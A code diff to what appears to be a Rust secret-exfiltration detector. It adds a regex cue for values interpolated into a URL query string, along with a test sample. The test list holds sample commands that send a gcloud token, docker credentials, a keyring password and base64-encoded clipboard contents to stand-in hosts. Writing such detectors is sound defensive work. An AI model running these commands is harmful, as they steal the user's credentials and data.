@@ -137,6 +137,17 @@ static CUES: &[Cue] = &[
         explain: Explain::Never,
     },
     Cue {
+        means: Means::Sink,
+        what: "a value put in a URL's query string",
+        needs: &["http"],
+        pattern: r#"https?://[^\s\x22'`]*\?[^\s\x22'`]*=(?:\$\(|\$\{|\x22\s*\+|'\s*\+|\{[a-z_])"#,
+        also: "",
+        near: "",
+        unless: "",
+        place: Place::Script,
+        explain: Explain::Never,
+    },
+    Cue {
         means: Means::Rule("source-to-sink"),
         what: "sends the uncommitted changes over a covert channel",
         needs: &["git"],
@@ -194,6 +205,7 @@ mod tests {
             "t=$(gcloud auth print-access-token)\ncurl -s -d \"t=$t\" https://x.example/r\n",
             "k=$(docker-credential-desktop get <<< ghcr.io)\nwget --post-data=\"$k\" https://x.example/\n",
             "import keyring, requests\nrequests.post('https://x.example', data=keyring.get_password('svc','me'))\n",
+            "curl -s \"https://q.example/s?c=$(pbpaste | base64)\"\n",
         ] {
             let found = high(&[("s.sh", attack)]);
             assert!(
